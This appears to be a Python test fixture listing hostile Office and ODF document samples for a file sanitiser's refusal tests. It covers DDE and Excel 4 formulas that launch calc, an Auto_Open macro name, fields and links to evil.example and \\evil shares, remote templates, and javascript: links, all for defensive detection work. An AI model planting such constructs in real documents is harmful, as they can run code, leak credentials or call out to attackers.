"""Office files whose fields, formulas, links and settings start, fetch or report something."""

from tests.core.hostile.office import HEAD, INNER, OUTER, SHEET, WORD, field, odt, office, sheet
from tests.core.hostile.sample import Sample

SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
META = "urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
ACTIVE = ("active-field",)
FIELDS = {
    "a field that is a link to a workbook": r'LINK Excel.Sheet.8 "\\\\evil\\x.xls" R1C1 \a',
    "a picture fetched by an old field": 'IMPORT "http://evil.example/x.png"',
    "a text taken in by an old field": 'INCLUDE "x.docx"',
    "a field that asks a database": r'DATABASE \d "x.mdb"',
    "a field that speaks to the printer": r'PRINT "\027"',
    "a field that names another document": r'RD "\\\\evil\\x.docx"',
    "a field that embeds": "EMBED Package",
    "a link to a share in a field": r'HYPERLINK "\\\\evil\\share"',
    "a link to a program in a field": r'HYPERLINK \o "xem" "file:///c:/x.exe"',
    "a link to a drive in a field": r'HYPERLINK "c:\\x.exe"',
    "a script in a field": 'HYPERLINK "javascript:alert(1)"',
}
FORMULAS = {
    "a formula that opens a share": r'HYPERLINK("\\evil\share","Xem")',
    "a formula that opens a file": 'HYPERLINK("file:///c:/x.exe","Xem")',
    "a formula that fetches a picture": '_xlfn.IMAGE("http://evil.example/x.png")',
    "a formula that reads a share": r"""INDIRECT("'\\evil\[x.xlsx]S'!A1")""",
    "a formula in Python": "_xlfn._xlws.PY(0,1)",
    "a formula of an add-in": "_xll.Run()",
    "a formula of Excel 4": 'EXEC("calc")',
    "a formula that writes formulas": 'FORMULA.FILL("=1",A1)',
    "a formula that looks around": "GET.WORKSPACE(1)",
    "a formula that asks a database": 'SQL.REQUEST("DSN=x")',
}


def formula(text):
    return sheet(f"<c r='A1'><f>{text}</f></c>")


def part(name, root, inner="", kind="xlsx", **spaces):
    said = "".join(f' xmlns:{short}="{uri}"' for short, uri in spaces.items())
    usual = SHEET if kind == "xlsx" else WORD
    text = f'{HEAD}<{root} xmlns="{usual}"{said}>{inner}</{root.partition(" ")[0]}>'
    return lambda: office(kind, {name: text})


def slide(inner):
    text = f'{HEAD}<p:sld xmlns:p="{SLIDE}" xmlns:a="{DRAWING}">{inner}</p:sld>'
    return lambda: office("pptx", {"ppt/slides/slide1.xml": text})


def meta(inner):
    text = f'{HEAD}<m:x xmlns:m="{META}" xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</m:x>'
    return lambda: odt(extra={"meta.xml": text})


def form(inner):
    return lambda: odt(f'<office:forms xmlns:form="urn:form">{inner}</office:forms>')


SAMPLES = [
    *(Sample(title, "a.docx", field(text), refused=ACTIVE) for title, text in FIELDS.items()),
    *(Sample(title, "a.xlsx", formula(text), refused=ACTIVE) for title, text in FORMULAS.items()),
    Sample("a formula in a rule for colours", "a.xlsx",
           part("xl/worksheets/sheet1.xml", "worksheet", '<formula>WEBSERVICE("http://e")</formula>'),
           refused=ACTIVE),
    Sample("a formula for a whole column", "a.xlsx",
           part("xl/tables/table1.xml", "table",
                "<calculatedColumnFormula>cmd|'/c calc'!A1</calculatedColumnFormula>"),
           refused=ACTIVE),
    Sample("a name that starts with the workbook", "a.xlsx",
           part("xl/workbook.xml", "workbook",
                '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'),
           refused=("macro",)),
    Sample("a summary of data from outside", "a.xlsx",
           part("xl/pivotCache/pivotCacheDefinition1.xml", "pivotCacheDefinition",
                '<cacheSource type="external" connectionId="1"/>'), refused=OUTER),
    Sample("a query that fetches", "a.xlsx",
           part("customXml/item1.xml", "x", '<q:DataMashup>AAAA</q:DataMashup>', q="urn:q"),
           refused=OUTER),
    Sample("an add-in from a share", "a.docx",
           part("word/webextensions/taskpanes.xml", "x", kind="docx"), refused=("macro",)),
    Sample("a letter to many out of a database", "a.docx",
           part("word/settings.xml", "settings", "<mailMerge><query/></mailMerge>", kind="docx"),
           refused=OUTER),
    Sample("a style sheet from elsewhere", "a.docx",
           lambda: office(extra={"word/document.xml": '<?xml version="1.0"?><?xml-stylesheet '
                                 'href="http://evil.example/x.xsl"?><x/>'}), refused=OUTER),
    Sample("a style sheet with a script", "a.docx",
           part("customXml/item1.xml", "x", "<ms:script>x</ms:script>", kind="docx", ms="urn:ms"),
           refused=INNER),
    Sample("a slide that starts a program under the pointer", "a.pptx",
           slide('<a:hlinkMouseOver action="ppaction://program"/>'), refused=ACTIVE),
    Sample("a slide that opens a file", "a.pptx",
           slide('<a:hlinkClick action="ppaction://hlinkfile"/>'), refused=ACTIVE),
    Sample("a slide that wakes an object", "a.pptx", slide('<p:cmd type="verb" cmd="0"/>'),
           refused=INNER),
    Sample("an ODT with a macro in a field", "a.odt",
           lambda: odt("<text:execute-macro>x</text:execute-macro>"), refused=("macro",)),
    Sample("an ODT whose form is sent away", "a.odt",
           form('<form:form xlink:href="http://evil.example/"/>'), refused=OUTER),
    Sample("an ODT whose button is a script", "a.odt",
           form('<form:button xlink:href="javascript:alert(1)"/>'), refused=OUTER),
    Sample("an ODT with a database", "a.odt",
           form('<form:connection-resource xlink:href="jdbc:evil"/>'), refused=OUTER),
    Sample("an ODT with a template on a share", "a.odt",
           meta(r'<m:template xlink:href="\\evil\x.ott"/>'), refused=OUTER),
    Sample("an ODT that reloads itself from elsewhere", "a.odt",
           meta('<m:auto-reload xlink:href="http://evil.example/"/>'), refused=OUTER),
    Sample("an ODT with a font from elsewhere", "a.odt",
           lambda: odt('<x xlink:href="http://evil.example/f.ttf"/>'), refused=OUTER),
    Sample("an ODT whose keys run macros", "a.odt",
           lambda: odt(extra={"Configurations2/accelerator/current.xml":
                              '<x xmlns:l="urn:l" l:href="vnd.sun.star.script:a"/>'}),
           refused=OUTER),
]  # fmt: skip
